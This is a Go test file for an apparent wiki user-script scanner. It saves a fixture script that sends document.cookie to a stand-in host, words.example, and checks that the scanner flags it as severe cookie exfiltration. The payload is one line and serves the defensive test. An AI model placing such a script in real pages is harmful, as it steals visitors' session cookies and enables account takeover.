package cli

import (
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"sallyport/internal/bus"
	"sallyport/internal/config"
	"sallyport/internal/fakewiki"
	"sallyport/internal/store/sqlstore"
)

func TestAScriptThatIsSavedIsReadAndListedWithItsScore(t *testing.T) {
	pretend := fakewiki.New(fakewiki.Options{})
	pretend.AddUser("Mara", "password of Mara")
	server := httptest.NewServer(pretend)
	t.Cleanup(server.Close)
	db, err := sqlstore.Open(t.Context(), "")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = db.Close() })
	log := slog.New(slog.DiscardHandler)
	all, err := join(t.Context(), parts{wikiURL: server.URL, scriptPath: "/w", store: db, log: log})
	if err != nil {
		t.Fatal(err)
	}
	work, err := all.background(db, bus.Options{}, config.Analysis{Jobs: 1}, log)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := pretend.Save("User:Mara/ask.js", "fetch( 'https://words.example/' + document.cookie );", "Mara", "test"); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	ended := make(chan error)
	go func() { ended <- work.run(ctx) }()
	defer func() {
		cancel()
		if err := <-ended; err != nil {
			t.Error(err)
		}
	}()
	row := ""
	for end := time.Now().Add(time.Minute); time.Now().Before(end) && !strings.Contains(row, ",read,"); time.Sleep(20 * time.Millisecond) {
		w := httptest.NewRecorder()
		r := httptest.NewRequest(http.MethodGet, "http://wiki.test/sallyport/scripts.csv", nil)
		all.handler.ServeHTTP(w, r)
		text, err := io.ReadAll(w.Body)
		if err != nil || w.Code != http.StatusOK {
			t.Fatal(w.Code, err, string(text))
		}
		row = string(text)
	}
	if !strings.Contains(row, "\nUser:Mara/ask.js,Mara,") || !strings.Contains(row, ",severe,sends cookies to words.example,words.example") {
		t.Errorf("the list is %s", row)
	}
}
